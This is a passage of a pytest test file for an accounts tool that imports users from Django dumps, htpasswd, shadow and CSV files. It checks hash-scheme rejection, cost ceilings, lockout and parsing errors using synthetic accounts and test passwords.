"""`accounts user import` and `accounts user export`, with files made by the real tools:
Django (`create_user`, `dumpdata`, `loaddata`), Apache's `htpasswd` and `mkpasswd` (libxcrypt)."""

import csv
import io
import json
import os
import re
import shutil
import stat
import statistics
import subprocess
import sys

import pytest

from conftest import (BIN, BOB, BOB_EMAIL, BOB_FULL_NAME, BOB_PASSWORD, EMAIL, EMAIL_RULE,
                      FULL_NAME, INVALID, NOT_ACTIVATED, PASSWORD, TIMING_BIN, USERNAME,
                      USERNAME_RULE, WRONG_PASSWORD, Device, cpu_seconds)

CAROL = "carol"
CAROL_PASSWORD = "purple elephants dance quietly"
DAVE = "dave"
DAVE_PASSWORD = "seven lanterns over the harbour"
ERIN = "erin"
ERIN_PASSWORD = "marmalade typewriter glacier"
FRANK = "frank"
FRANK_PASSWORD = "velvet thunder across the moor"
DOMAIN = "example.net"
QUOTED_NAME = 'Builder, Bob "The Fixer"'
CAROL_QUOTED = 'Smith, Carol "Caz" \\ Zoë'

CSV_HEADER = ("username,full_name,email,password_hash,disabled,must_change_password,created_at,"
              "last_login")
JSON_KEYS = {"model", "pk", "fields"}
FIELD_KEYS = {"username", "first_name", "last_name", "email", "password", "is_active",
              "is_staff", "is_superuser", "date_joined", "last_login", "groups",
              "user_permissions"}
SHADOW_NEEDS_DOMAIN = ("shadow files hold no e-mail addresses: give --email-domain DOMAIN "
                       "(alice becomes alice@DOMAIN).")
SKIPPED_ENTRIES = ["daemon:*:19000:0:99999:7:::", "nobody:!:19000:0:99999:7:::",
                   "sync:!!:19000:0:99999:7:::", "games:!*:19000:0:99999:7:::",
                   "empty::19000:0:99999:7:::"]


# Helpers: the tools that make the files.

def tool(*command, input=None) -> str:
    """Runs a real tool (htpasswd, mkpasswd) and returns its stdout; it must succeed."""
    proc = subprocess.run(command, input=input, capture_output=True, text=True, check=True)
    return proc.stdout


def htpasswd(option, name, password) -> str:
    """One `name:hash` line made by Apache's htpasswd (`-B` bcrypt, `-m`, `-s`, `-d`, `-p`)."""
    return tool("htpasswd", "-n", "-b", option, name, password).strip()


def mkpasswd(method, password) -> str:
    """A crypt(3) hash made by mkpasswd (libxcrypt)."""
    return tool("mkpasswd", "-m", method, password).strip()


def shadow_line(name, crypt_hash) -> str:
    """An /etc/shadow line (9 fields)."""
    return f"{name}:{crypt_hash}:19000:0:99999:7:::"


def pbkdf2(django_hashers, password) -> str:
    """A cheap Django PBKDF2 hash (1,000 iterations)."""
    hasher = django_hashers.PBKDF2PasswordHasher()
    return hasher.encode(password, hasher.salt(), iterations=1000)


def write(device, name, text) -> str:
    """Writes a file into the device's folder (the commands' working folder); returns `name`."""
    (device.root / name).write_text(text)
    return name


# Helpers: the commands.

def import_(device, *args, input=None):
    return device.run("user", "import", *args, input=input)


def export(device, *args):
    return device.run("user", "export", *args)


def logs_in(device, name, password, full_name=None):
    """A scripted login (no session) succeeds: Home starts with the account's welcome (a line
    about earlier failed attempts may follow)."""
    result = device.run("login", "--no-session", "--username", name, "--password-stdin",
                        input=password + "\n")
    assert (result.code, result.stderr) == (0, ""), (name, result)
    assert result.out_lines[0] == f"Welcome back {full_name or name}!", (name, result)


def refused_login(device, name, password):
    result = device.run("login", "--no-session", "--username", name, "--password-stdin",
                        input=password + "\n")
    assert (result.code, result.stdout, result.stderr) == (1, "", INVALID + "\n"), (name, result)


def names(device):
    return [a["username"] for a in device.accounts()]


def kinds(device):
    return [e["event"] for e in device.events()]


def starts(prefix, *contains):
    """A problem line whose wording the contract leaves open: its `line N (name): ` start is
    exact and it contains each of `contains`."""
    return re.compile(re.escape(prefix) + ".*".join([""] + [re.escape(c) for c in contains])
                      + ".*")


def nothing_imported(result, *problems, total=None, code=2):
    """Exit `code` (2: the file has a problem of its own; 1: its names are taken), nothing on
    stdout; stderr is the problem lines (exact strings or `starts(...)`)
    then `Nothing was imported: N problems.`"""
    total = len(problems) if total is None else total
    assert (result.code, result.stdout) == (code, ""), result
    lines = result.err_lines
    assert len(lines) == len(problems) + 1, result.stderr
    for line, problem in zip(lines, problems):
        if isinstance(problem, str):
            assert line == problem, result.stderr
        else:
            assert problem.fullmatch(line), (problem.pattern, result.stderr)
    # The contract writes "N problems"; for one problem either number agreement is read as right.
    plural = "problems?" if total == 1 else "problems"
    assert re.fullmatch(rf"Nothing was imported: {total} {plural}\.", lines[-1]), result.stderr


def unchanged(device, accounts_before, events_before):
    """The import wrote nothing: the same accounts (every field) and the same audit trail."""
    assert device.accounts() == accounts_before
    assert device.events() == events_before


def csv_file(rows, header="username,full_name,email,password_hash") -> str:
    return header + "\n" + "".join(row + "\n" for row in rows)


# A scratch Django project (sqlite), driven by Django's own commands.

SETTINGS = '''
import os
SECRET_KEY = "e2e"
INSTALLED_APPS = ["django.contrib.auth", "django.contrib.contenttypes"]
DATABASES = {"default": {"ENGINE": "django.db.backends.sqlite3",
                         "NAME": os.environ["E2E_DJANGO_DB"]}}
PASSWORD_HASHERS = ["fasthasher.FastPBKDF2PasswordHasher",
                    "django.contrib.auth.hashers.MD5PasswordHasher"]
USE_TZ = True
DEFAULT_AUTO_FIELD = "django.db.models.AutoField"
'''
FAST_HASHER = '''
from django.contrib.auth.hashers import PBKDF2PasswordHasher


class FastPBKDF2PasswordHasher(PBKDF2PasswordHasher):
    """Django's PBKDF2 hasher (same `pbkdf2_sha256$` format) at 1,000 iterations."""
    iterations = 1000
'''


class DjangoProject:
    """A Django project in `folder` with its own sqlite database (auth and contenttypes)."""

    def __init__(self, folder, db):
        self.folder = folder
        self.db = db

    def env(self):
        return dict(os.environ, PYTHONPATH=str(self.folder), DJANGO_SETTINGS_MODULE="settings",
                    E2E_DJANGO_DB=str(self.db))

    def admin(self, *args):
        """`django-admin ARGS` (what `manage.py ARGS` runs) in this project."""
        proc = subprocess.run([sys.executable, "-m", "django", *args], env=self.env(),
                              capture_output=True, text=True, cwd=str(self.folder))
        assert proc.returncode == 0, proc.stderr
        return proc.stdout

    def python(self, code):
        """Runs Python code with Django set up; returns its stdout."""
        proc = subprocess.run([sys.executable, "-c", "import django\ndjango.setup()\n" + code],
                              env=self.env(), capture_output=True, text=True,
                              cwd=str(self.folder))
        assert proc.returncode == 0, proc.stderr
        return proc.stdout

    def dump_users(self, users, path, models=("auth.user",), groups=()):
        """`create_user` for each (username, email, password, extra fields), then
        `dumpdata MODELS` into `path`; returns the parsed dump."""
        self.python(
            "import json, sys\n"
            "from django.contrib.auth.models import Group, User\n"
            "from django.core.management import call_command\n"
            f"for name in {list(groups)!r}:\n"
            "    Group.objects.create(name=name)\n"
            f"for username, email, password, extra in json.loads({json.dumps(users)!r}):\n"
            "    hasher = extra.pop('hasher', 'default')\n"
            "    user = User.objects.create_user(username, email, password, **extra)\n"
            "    if hasher != 'default':\n"
            "        from django.contrib.auth.hashers import make_password\n"
            "        user.password = make_password(password, hasher=hasher)\n"
            "        user.save()\n"
            f"call_command('dumpdata', *{list(models)!r}, indent=2, output={str(path)!r})\n")
        return json.loads(path.read_text())

    def check_passwords(self, pairs):
        """Django's own `User.check_password` for each (username, password)."""
        out = self.python(
            "import json\n"
            "from django.contrib.auth.models import User\n"
            f"pairs = {pairs!r}\n"
            "print(json.dumps([User.objects.get(username=u).check_password(p)"
            " for u, p in pairs]))\n")
        return json.loads(out)

    def users(self):
        """username -> (is_active, is_superuser, first_name, email) as Django reads them."""
        out = self.python(
            "import json\n"
            "from django.contrib.auth.models import User\n"
            "print(json.dumps({u.username: [u.is_active, u.is_superuser, u.first_name, u.email]"
            " for u in User.objects.all()}))\n")
        return {k: tuple(v) for k, v in json.loads(out).items()}


@pytest.fixture(scope="session")
def django_template(tmp_path_factory):
    """A migrated, empty Django database, made once and copied for each test."""
    folder = tmp_path_factory.mktemp("django-template")
    (folder / "settings.py").write_text(SETTINGS)
    (folder / "fasthasher.py").write_text(FAST_HASHER)
    project = DjangoProject(folder, folder / "db.sqlite3")
    project.admin("migrate", "-v", "0")
    return folder


@pytest.fixture
def django_project(tmp_path, django_template):
    """A fresh Django project of its own (a copy of the migrated template)."""
    folder = tmp_path / "django"
    shutil.copytree(django_template, folder)
    return DjangoProject(folder, folder / "db.sqlite3")


def bob_and_carol(django_project, device, **carol_extra):
    """Django users bob (named Bob Builder) and carol (no names), dumped into users.json."""
    users = [[BOB, BOB_EMAIL, BOB_PASSWORD, {"first_name": "Bob", "last_name": "Builder"}],
             [CAROL, "carol@example.org", CAROL_PASSWORD, carol_extra]]
    return django_project.dump_users(users, device.root / "users.json")


# Django dumpdata

def test_django_dumpdata_imports_and_logs_in(activated, django_project):
    """A `dumpdata auth.user` file is guessed as django and imported: names joined into the full
    name (the user name when both are empty), the e-mail and Django's hash kept; each user logs in
    with its Django password."""
    dump = bob_and_carol(django_project, activated)
    result = import_(activated, "users.json")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 2 accounts from users.json.\n", ""), result
    accounts = {a["username"]: a for a in activated.accounts()}
    assert sorted(accounts) == [USERNAME, BOB, CAROL]
    assert (accounts[BOB]["fullName"], accounts[BOB]["email"]) == (BOB_FULL_NAME, BOB_EMAIL)
    assert (accounts[CAROL]["fullName"], accounts[CAROL]["email"]) == (CAROL, "carol@example.org")
    assert [accounts[n]["owner"] or accounts[n]["disabled"] for n in (BOB, CAROL)] == [False] * 2
    assert activated.stored_hash(BOB) == dump[0]["fields"]["password"]
    logs_in(activated, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    logs_in(activated, CAROL, CAROL_PASSWORD)
    refused_login(activated, BOB, CAROL_PASSWORD)


def test_django_inactive_user_is_imported_disabled(activated, django_project):
    """`is_active: false` imports the account disabled: its right password is refused like a
    wrong one until `user enable`."""
    bob_and_carol(django_project, activated, is_active=False)
    assert import_(activated, "users.json").code == 0
    assert [(a["username"], a["disabled"]) for a in activated.accounts()] == [
        (USERNAME, False), (BOB, False), (CAROL, True)]
    refused_login(activated, CAROL, CAROL_PASSWORD)
    assert activated.run("user", "enable", CAROL).code == 0
    logs_in(activated, CAROL, CAROL_PASSWORD)


@pytest.mark.parametrize("value, shown", [
    ("false", '"false"'), ("true", '"true"'), ("0", '"0"'), (None, "null"), (2, "2"),
    ([], "[]"),
])
def test_django_is_active_must_be_a_boolean(activated, django_project, value, shown):
    """`is_active` that is not a JSON boolean nor the number 1 or 0 (a string such as "false",
    null, 2, a list) is a problem on its entry, never an enabled account: nothing imported."""
    dump = bob_and_carol(django_project, activated)
    dump[1]["fields"]["is_active"] = value
    write(activated, "users.json", json.dumps(dump, indent=2))
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "users.json"),
                     f"entry 2 (carol): is_active must be true or false (or 1 or 0), "
                     f"not {shown}.")
    unchanged(activated, before, events)


def test_django_is_active_as_a_number(activated, django_project):
    """`is_active` of 0 or 1 (Django's own BooleanField reads these as false and true) imports
    the account disabled or enabled."""
    dump = bob_and_carol(django_project, activated)
    dump[0]["fields"]["is_active"] = 1
    dump[1]["fields"]["is_active"] = 0
    write(activated, "users.json", json.dumps(dump))
    assert import_(activated, "users.json").code == 0
    assert [(a["username"], a["disabled"]) for a in activated.accounts()] == [
        (USERNAME, False), (BOB, False), (CAROL, True)]


def test_django_dump_on_one_line_is_read_in_pieces(activated, django_hashers):
    """`dumpdata` without --indent writes the whole list on one line: 3,000 users (about 700
    KB, read a block at a time, entries across the blocks' edges; quotes, brackets and braces
    inside strings) import, and one logs in."""
    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
    users = [{"model": "auth.user", "pk": n + 1,
              "fields": {"username": f"user{n}", "first_name": 'Say "[x]" {y}',
                         "last_name": "\\]}", "email": f"user{n}@example.org",
                         "password": hash_, "is_active": True, "groups": [],
                         "user_permissions": [], "date_joined": "2024-01-01T00:00:00Z",
                         "last_login": None}} for n in range(3000)]
    text = json.dumps(users, separators=(",", ":"))
    assert "\n" not in text and len(text) > 600_000
    write(activated, "users.json", text)
    result = import_(activated, "users.json")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 3000 accounts from users.json.\n", ""), result
    assert activated.account("user2999")["fullName"] == 'Say "[x]" {y} \\]}'
    logs_in(activated, "user1500", BOB_PASSWORD, 'Say "[x]" {y} \\]}')


def test_django_list_broken_off_names_its_line(activated, django_project):
    """A dump cut short after its second entry (no closing `]`): the entries before it are
    checked as usual, then the line where the list breaks off is named; nothing imported."""
    bob_and_carol(django_project, activated)
    text = (activated.root / "users.json").read_text().rstrip()
    assert text.endswith("]")
    text = text[:-1].rstrip()
    write(activated, "users.json", text)
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "users.json"),
                     f"line {text.count(chr(10)) + 1}: the JSON list breaks off here, after "
                     f"entry 2 (a ',' or ']' is missing, or the file ends early).")
    unchanged(activated, before, events)


def test_django_empty_email_is_a_problem(activated, django_project):
    """A Django user without an e-mail is a problem (`entry 2 (carol): …`): nothing imported."""
    users = [[BOB, BOB_EMAIL, BOB_PASSWORD, {}], [CAROL, "", CAROL_PASSWORD, {}]]
    django_project.dump_users(users, activated.root / "users.json")
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "users.json"), starts("entry 2 (carol): "))
    unchanged(activated, before, events)


def test_django_other_hasher_is_refused_by_name(activated, django_project):
    """A Django hash of another hasher (`md5$…`) is refused naming it; nothing imported."""
    users = [[BOB, BOB_EMAIL, BOB_PASSWORD, {}],
             [CAROL, "carol@example.org", CAROL_PASSWORD, {"hasher": "md5"}]]
    dump = django_project.dump_users(users, activated.root / "users.json")
    assert dump[1]["fields"]["password"].startswith("md5$")
    result = import_(activated, "users.json")
    nothing_imported(result, starts("entry 2 (carol): "))
    assert "md5" in result.err_lines[0].lower(), result.stderr
    assert names(activated) == [USERNAME]


def test_django_other_model_is_a_problem(activated, django_project):
    """`dumpdata auth.user auth.group`: the group entry (entry 2, which has no user name) is a
    problem; nothing imported."""
    django_project.dump_users([[BOB, BOB_EMAIL, BOB_PASSWORD, {}]], activated.root / "all.json",
                              models=("auth.user", "auth.group"), groups=("staff",))
    nothing_imported(import_(activated, "all.json"), re.compile(r"entry 2\b.*auth\.group.*"))
    assert names(activated) == [USERNAME]


def test_django_taken_and_bad_names(activated, django_project):
    """Django allows `Alice` (taken here, case-insensitively) and `bob+x` (not a user name here):
    `entry 1 (Alice): user name Alice is already taken.` and the user-name rule for entry 2."""
    users = [["Alice", "a2@example.org", PASSWORD, {}], ["bob+x", BOB_EMAIL, BOB_PASSWORD, {}]]
    django_project.dump_users(users, activated.root / "users.json")
    nothing_imported(import_(activated, "users.json"),
                     "entry 1 (Alice): user name Alice is already taken.",
                     starts("entry 2 (bob+x): ", USERNAME_RULE))
    assert names(activated) == [USERNAME]


def test_django_full_name_rules(activated, django_project):
    """Django's name fields: only a last name gives that name alone (trimmed); a first and last
    name of 150 characters each (Django's limit) make a full name over 256: a problem."""
    users = [[BOB, BOB_EMAIL, BOB_PASSWORD, {"last_name": "Builder"}],
             [DAVE, "dave@example.org", DAVE_PASSWORD,
              {"first_name": "D" * 150, "last_name": "E" * 150}]]
    django_project.dump_users(users, activated.root / "users.json")
    nothing_imported(import_(activated, "users.json"),
                     starts("entry 2 (dave): ", "Full name must be at most 256 characters!"))
    django_project.admin("dumpdata", "auth.user", "--pks", "1", "--output",
                         str(activated.root / "bob.json"))
    assert import_(activated, "bob.json").stdout == "Imported 1 account from bob.json.\n"
    assert activated.account(BOB)["fullName"] == "Builder"


def test_django_case_duplicates_are_a_problem(activated, django_project):
    """Django keeps `bob` and `Bob` apart; here they share a key: entry 2 (Bob) is a duplicate
    of entry 1; nothing imported."""
    users = [[BOB, BOB_EMAIL, BOB_PASSWORD, {}], ["Bob", "bob2@example.org", CAROL_PASSWORD, {}]]
    django_project.dump_users(users, activated.root / "users.json")
    result = import_(activated, "users.json")
    nothing_imported(result, starts("entry 2 (Bob): user name Bob is also "))
    assert "1" in result.err_lines[0].split("is also", 1)[1], result.stderr
    assert names(activated) == [USERNAME]


# htpasswd

def test_htpasswd_bcrypt_logs_in_and_is_rehashed(activated):
    """`htpasswd -B` lines import with --email-domain (full name = user name, e-mail
    name@DOMAIN); each logs in with its password, and after that first login the stored hash is
    PBKDF2 and still works."""
    path = activated.root / "site.htpasswd"
    tool("htpasswd", "-B", "-b", "-c", str(path), BOB, BOB_PASSWORD)
    tool("htpasswd", "-B", "-b", str(path), CAROL, CAROL_PASSWORD)
    result = import_(activated, "site.htpasswd", "--email-domain", DOMAIN)
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 2 accounts from site.htpasswd.\n", ""), result
    bob = activated.account(BOB)
    assert (bob["fullName"], bob["email"], bob["owner"]) == (BOB, f"{BOB}@{DOMAIN}", False)
    assert activated.stored_hash(BOB).startswith("$2y$")
    refused_login(activated, BOB, WRONG_PASSWORD)
    assert activated.stored_hash(BOB).startswith("$2y$")
    logs_in(activated, BOB, BOB_PASSWORD)
    assert activated.stored_hash(BOB).startswith("pbkdf2_sha256$")
    logs_in(activated, BOB, BOB_PASSWORD)
    logs_in(activated, CAROL, CAROL_PASSWORD)
    assert activated.stored_hash(CAROL).startswith("pbkdf2_sha256$")


def test_htpasswd_one_account(activated):
    """One line: `Imported 1 account from one.htpasswd.`"""
    write(activated, "one.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n")
    result = import_(activated, "one.htpasswd", "--email-domain", DOMAIN)
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 1 account from one.htpasswd.\n", ""), result
    logs_in(activated, BOB, BOB_PASSWORD)


@pytest.mark.parametrize("option, prefix, name", [
    ("-m", "$apr1$", "Apache MD5"),
    ("-s", "{SHA}", "SHA-1"),
    ("-d", "", "DES"),
])
def test_htpasswd_weak_schemes_are_refused_by_name(activated, option, prefix, name):
    """`htpasswd -m` ($apr1$), `-s` ({SHA}) and `-d` (DES crypt) lines are refused naming the
    scheme, on their line; the good bcrypt line before them is not imported either."""
    weak = htpasswd(option, CAROL, CAROL_PASSWORD)
    assert weak.split(":", 1)[1].startswith(prefix)
    if option == "-d":
        assert len(weak.split(":", 1)[1]) == 13
    write(activated, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n" + weak + "\n")
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "site.htpasswd", "--email-domain", DOMAIN),
                     starts("line 2 (carol): ", name))
    unchanged(activated, before, events)


def test_htpasswd_plain_text_is_refused(activated):
    """An `htpasswd -p` (plain text) line is a problem on its line; nothing imported."""
    write(activated, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n"
          + htpasswd("-p", CAROL, CAROL_PASSWORD) + "\n")
    nothing_imported(import_(activated, "site.htpasswd", "--email-domain", DOMAIN),
                     starts("line 2 (carol): "))
    assert names(activated) == [USERNAME]


def test_htpasswd_needs_email_domain(activated):
    """htpasswd without --email-domain is a usage error (exit 2) asking for it; nothing written."""
    write(activated, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n")
    events = activated.events()
    result = import_(activated, "site.htpasswd")
    assert (result.code, result.stdout) == (2, ""), result
    assert "give --email-domain DOMAIN" in result.stderr, result.stderr
    assert names(activated) == [USERNAME]
    assert activated.events() == events


# shadow

def test_shadow_imports_and_skips_entries_without_a_password(activated):
    """An /etc/shadow file: yescrypt and SHA-512 entries import and log in; `*`, `!`, `!!`, `!*`,
    empty and `!`-locked entries are skipped and named in the summary; one accounts_imported
    event `2 accounts (shadow)`."""
    locked = shadow_line("locked", "!" + mkpasswd("sha-512", "locked password here"))
    lines = (SKIPPED_ENTRIES[:2]
             + [shadow_line(BOB, mkpasswd("yescrypt", BOB_PASSWORD))]
             + SKIPPED_ENTRIES[2:] + [locked]
             + [shadow_line(CAROL, mkpasswd("sha-512", CAROL_PASSWORD))])
    write(activated, "shadow", "\n".join(lines) + "\n")
    result = import_(activated, "shadow", "--email-domain", DOMAIN)
    assert (result.code, result.stderr) == (0, ""), result
    assert result.out_lines == [
        "Imported 2 accounts from shadow.",
        "Skipped 6 entries without a password: daemon, nobody, sync, games, empty, locked."]
    assert names(activated) == [USERNAME, BOB, CAROL]
    assert activated.account(CAROL)["email"] == f"{CAROL}@{DOMAIN}"
    assert [(e["event"], e["detail"]) for e in activated.events()][1:] == [
        ("accounts_imported", "2 accounts (shadow)")]
    assert activated.stored_hash(BOB).startswith("$y$")
    logs_in(activated, BOB, BOB_PASSWORD)
    logs_in(activated, CAROL, CAROL_PASSWORD)


def test_every_kept_crypt_scheme_logs_in_and_is_rehashed(activated):
    """yescrypt, SHA-512, SHA-256, bcrypt $2b$ and $2a$ hashes from mkpasswd are kept as they
    are, log in with their passwords (a wrong one is refused) and become PBKDF2 at that login."""
    made = {BOB: ("yescrypt", BOB_PASSWORD, "$y$"), CAROL: ("sha-512", CAROL_PASSWORD, "$6$"),
            DAVE: ("sha-256", DAVE_PASSWORD, "$5$"), ERIN: ("bcrypt", ERIN_PASSWORD, "$2b$"),
            FRANK: ("bcrypt-a", FRANK_PASSWORD, "$2a$")}
    hashes = {name: mkpasswd(method, password) for name, (method, password, _) in made.items()}
    write(activated, "shadow", "".join(shadow_line(n, h) + "\n" for n, h in hashes.items()))
    result = import_(activated, "shadow", "--email-domain", DOMAIN)
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 5 accounts from shadow.\n", ""), result
    for name, (_, password, prefix) in made.items():
        assert hashes[name].startswith(prefix)
        assert activated.stored_hash(name) == hashes[name]
        refused_login(activated, name, WRONG_PASSWORD)
        logs_in(activated, name, password)
        assert activated.stored_hash(name).startswith("pbkdf2_sha256$"), name
        logs_in(activated, name, password)


def test_imported_crypt_account_locks_like_any(activated):
    """Wrong passwords on an imported bcrypt account are counted and lock it (exit 4 at the
    fifth) like any account's; locked, its right password is refused too and the hash stays."""
    write(activated, "site.htpasswd", htpasswd("-B", BOB, BOB_PASSWORD) + "\n")
    assert import_(activated, "site.htpasswd", "--email-domain", DOMAIN).code == 0
    codes = [activated.run("login", "--no-session", "--username", BOB, "--password-stdin",
                           input=WRONG_PASSWORD + "\n").code for _ in range(5)]
    assert codes == [1, 1, 1, 1, 4]
    assert [e["event"] for e in activated.events()][2:] == ["login_failure"] * 5 + ["lockout"]
    locked = activated.run("login", "--no-session", "--username", BOB, "--password-stdin",
                           input=BOB_PASSWORD + "\n")
    assert (locked.code, locked.stdout) == (4, "")
    assert activated.account(BOB)["locked"] is True
    assert activated.stored_hash(BOB).startswith("$2y$")


def test_shadow_md5crypt_is_refused_by_name(activated):
    """An MD5-crypt entry on line 4: `line 4 (carol): MD5-crypt ($1$) hashes are too weak to
    keep.` exit 1; nothing imported, no event."""
    lines = SKIPPED_ENTRIES[:2] + [shadow_line(BOB, mkpasswd("sha-512", BOB_PASSWORD)),
                                   shadow_line(CAROL, mkpasswd("md5crypt", CAROL_PASSWORD))]
    write(activated, "shadow", "\n".join(lines) + "\n")
    before, events = activated.accounts(), activated.events()
    nothing_imported(import_(activated, "shadow", "--email-domain", DOMAIN),
                     "line 4 (carol): MD5-crypt ($1$) hashes are too weak to keep.")
    unchanged(activated, before, events)


# Cost ceilings: made once by the tools (Tests/AccountsCryptoTests/CryptHashTests.swift says
# how), with CEILING_PASSWORD; each takes seconds or a gigabyte to make again.
CEILING_PASSWORD = "correct horse battery staple"
BCRYPT_17 = "$2y$17$34UbECdb56WohxmEu7hk.uLWnNrnRHD8hIDutvz0sWy9OpI8MttXG"
BCRYPT_18 = "$2b$18$2JfQ5CrQD4bcgFBPWtXVheMJGeOyaesm9YWJwSKe/hutoIROUbVae"
SHA512_10M = ("$6$rounds=10000000$DSF6O0Z0KOatQf6d$7r0u/Sm/31uyYlTt1Vn9R2m6bYCcG7XRtklJGMhBW."
              "IWeSPM5MCIfjmh2E.yNT7LSPxh5bwYMfIDcTtBjjDP/1")
SHA256_10M = "$5$rounds=10000000$yspvEwjT.30Y.vlz$QxmTVeuAtGetpLNaLZejIOat/K2RX0rCwXcRdH3LlMB"
YESCRYPT_2GIB = "$y$jGT$gD9VinzuIG2QM95bOgIMF.$PhZf4QCdnbvAQSvfwjCe5hKAIuqKvjx1tQLB2V5KoK7"
YESCRYPT_P2 = "$y$j9T..$gD9VinzuIG2QM95bOgIMF.$l.LV7XM4rzXNY8LKIIKJ1dFgkO69i0SOWN7L0KY9Kq9"
OVER_CEILING = "so each login against it would take too long."


def test_hashes_over_the_cost_ceiling_are_refused_on_their_lines(activated):
    """A shadow file whose hashes cost more than their scheme's ceiling (bcrypt cost 18 and 31,
    SHA-512 crypt at 10,000,000 and 999,999,999 rounds, SHA-256 crypt at 10,000,000, yescrypt
    needing 2 GiB or two lanes) beside ones at the ceiling (bcrypt 17 from htpasswd -C 17) and
    the tools' defaults: each over is refused on its line with its cost and the ceiling; exit 1,
    nothing imported, no event."""
    bcrypt_31 = "$2y$31$" + BCRYPT_17[7:]
    sha512_huge = SHA512_10M.replace("rounds=10000000$", "rounds=999999999$")
    lines = [shadow_line("b17", BCRYPT_17), shadow_line("b18", BCRYPT_18),
             shadow_line("b31", bcrypt_31), shadow_line("s10m", SHA512_10M),
             shadow_line("s999m", sha512_huge), shadow_line("t10m", SHA256_10M),
             shadow_line("y2g", YESCRYPT_2GIB), shadow_line("ytwo", YESCRYPT_P2),
             shadow_line(BOB, mkpasswd("yescrypt", BOB_PASSWORD))]
    write(activated, "shadow", "\n".join(lines) + "\n")
    before, events = activated.accounts(), activated.events()
    nothing_imported(
        import_(activated, "shadow", "--email-domain", DOMAIN),
        f"line 2 (b18): the bcrypt hash with cost 18 is above the ceiling of cost 17, "
        f"{OVER_CEILING}",
        f"line 3 (b31): the bcrypt hash with cost 31 is above the ceiling of cost 17, "
        f"{OVER_CEILING}",
        f"line 4 (s10m): the sha512-crypt hash with 10,000,000 rounds is above the ceiling of "
        f"9,999,999 rounds, {OVER_CEILING}",
        f"line 5 (s999m): the sha512-crypt hash with 999,999,999 rounds is above the ceiling "
        f"of 9,999,999 rounds, {OVER_CEILING}",
        f"line 6 (t10m): the sha256-crypt hash with 10,000,000 rounds is above the ceiling of "
        f"9,999,999 rounds, {OVER_CEILING}",
        f"line 7 (y2g): the yescrypt hash with 2,048 MiB of memory is above the ceiling of "
        f"1,024 MiB of memory, {OVER_CEILING}",
        f"line 8 (ytwo): the yescrypt hash with p=2 is above the ceiling of p=1, "
        f"{OVER_CEILING}")
    unchanged(activated, before, events)


def test_htpasswd_bcrypt_over_the_ceiling_is_refused(activated):
    """An htpasswd line at bcrypt's highest cost, `$2y$31$…`, is refused on its line; the same
    file at cost 17 (what `htpasswd -B -C 17` makes, its highest) imports."""
    bcrypt_31 = "$2y$31$" + BCRYPT_17[7:]
    write(activated, "site.htpasswd", f"{BOB}:{bcrypt_31}\n")
    nothing_imported(import_(activated, "site.htpasswd", "--email-domain", DOMAIN),
                     f"line 1 (bob): the bcrypt hash with cost 31 is above the ceiling of "
                     f"cost 17, {OVER_CEILING}")
    write(activated, "site.htpasswd", f"{BOB}:{BCRYPT_17}\n")
    result = import_(activated, "site.htpasswd", "--email-domain", DOMAIN)
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 1 account from site.htpasswd.\n", ""), result


@pytest.mark.parametrize("planted, said", [
    (BCRYPT_18, "a bcrypt hash with cost 18; the ceiling is cost 17"),
    (SHA512_10M, "a sha512-crypt hash with 10,000,000 rounds; the ceiling is 9,999,999 rounds"),
    (YESCRYPT_2GIB, "a yescrypt hash with 2,048 MiB of memory; the ceiling is 1,024 MiB of "
                    "memory"),
])
def test_stored_hash_over_the_ceiling_is_damaged_at_login(activated, planted, said):
    """A hash over its ceiling planted in the store (as an earlier import could leave it) is
    treated as damaged: its right password gets the one generic refusal at once (libxcrypt,
    which would say yes after seconds or a gigabyte, is not asked), the failure is counted, and
    the audit line names the cost."""
    activated.add_user()
    activated.set_stored_hash(planted, BOB)
    refused_login(activated, BOB, CEILING_PASSWORD)
    last = activated.events()[-1]
    assert (last["event"], last["user"], last["detail"]) == (
        "login_failure", BOB,
        f"the stored password hash is over the cost ceiling ({said}), so it was not checked")
    assert activated.account(BOB)["failures"] == 1
    assert activated.stored_hash(BOB) == planted


def test_shadow_needs_email_domain(activated):
    """A shadow file without --email-domain: exit 2 with the contract's sentence; nothing
    written."""
    write(activated, "shadow", shadow_line(BOB, mkpasswd("sha-512", BOB_PASSWORD)) + "\n")
    events = activated.events()
    result = import_(activated, "shadow")
    assert (result.code, result.stdout, result.stderr) == (2, "", SHADOW_NEEDS_DOMAIN + "\n")
    assert names(activated) == [USERNAME]
    assert activated.events() == events


# csv

def test_csv_quoting_booleans_and_extra_columns(activated, django_hashers):
    """RFC 4180 csv: a quoted full name with a comma and doubled quotes reads back as written;
    `disabled` and `must_change_password` (`true`/`false`) are kept; other columns are ignored."""
    rows = [f'{BOB},"Builder, Bob ""The Fixer""",{BOB_EMAIL},'
            f'{pbkdf2(django_hashers, BOB_PASSWORD)},false,true,whatever',
            f'{CAROL},Carol,carol@example.org,{pbkdf2(django_hashers, CAROL_PASSWORD)},true,false,'
            '"x, y"']
    write(activated, "users.csv", csv_file(
        rows, "username,full_name,email,password_hash,disabled,must_change_password,note"))
    result = import_(activated, "users.csv")
    assert (result.code, result.stdout, result.stderr) == (
        0, "Imported 2 accounts from users.csv.\n", ""), result
    bob, carol = activated.account(BOB), activated.account(CAROL)
    assert (bob["fullName"], bob["disabled"], bob["mustChangePassword"]) == (
        QUOTED_NAME, False, True)
    assert (carol["fullName"], carol["disabled"], carol["mustChangePassword"]) == (
        "Carol", True, False)
    refused_login(activated, CAROL, CAROL_PASSWORD)


def python_csv(rows) -> bytes:
    """A csv file as Python's csv module writes it (RFC 4180: CRLF line ends, quoting as
    needed)."""
    out = io.StringIO(newline="")
